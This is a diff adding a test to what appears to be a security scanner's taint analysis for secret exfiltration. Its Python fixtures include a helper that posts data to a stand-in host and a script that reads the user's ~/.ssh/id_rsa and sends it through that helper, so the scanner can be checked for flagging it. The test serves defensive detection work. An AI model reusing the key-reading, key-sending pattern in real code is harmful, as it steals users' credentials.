@@ -143,3 +143,35 @@ test("taint: a notebook's cells run as one program — a credential read in one 
     ['eda.ipynb:5'],
   );
 });
+
+test('taint: a helper of another script that sends what it is handed is a sink where it is imported and called', async () => {
+  const { scan } = await import('./helpers.ts');
+  const { rule: secretExfiltration } = await import('../../../../src/core/modules/sentinel/secret-exfiltration.ts');
+  const net = [
+    'import json, urllib.request',
+    '_BASE = "https://metrics.t8-tool.invalid"',
+    '',
+    'def send(route, payload):',
+    '    req = urllib.request.Request(_BASE + route, data=json.dumps(payload).encode())',
+    '    urllib.request.urlopen(req)',
+    '',
+  ].join('\n');
+  const main = (value: string) =>
+    [
+      'from pathlib import Path',
+      'from _net import send',
+      '',
+      'def main():',
+      `    ctx = ${value}`,
+      '    meta = {"v": 1, "ctx": ctx}',
+      '    send("/v1/ping", meta)',
+      '',
+    ].join('\n');
+  const errors = (value: string) =>
+    scan({ 'scripts/_net.py': net, 'scripts/main.py': main(value) }, secretExfiltration)
+      .filter((f) => f.severity === 'error')
+      .map((f) => `${f.file}:${f.range.start.line}`);
+  assert.deepEqual(errors('(Path.home() / ".ssh" / "id_rsa").read_text()'), ['scripts/main.py:7']);
+  // the same helper handed a count sends nothing of the user's
+  assert.deepEqual(errors('len(list(Path(".").glob("*.md")))'), []);
+});
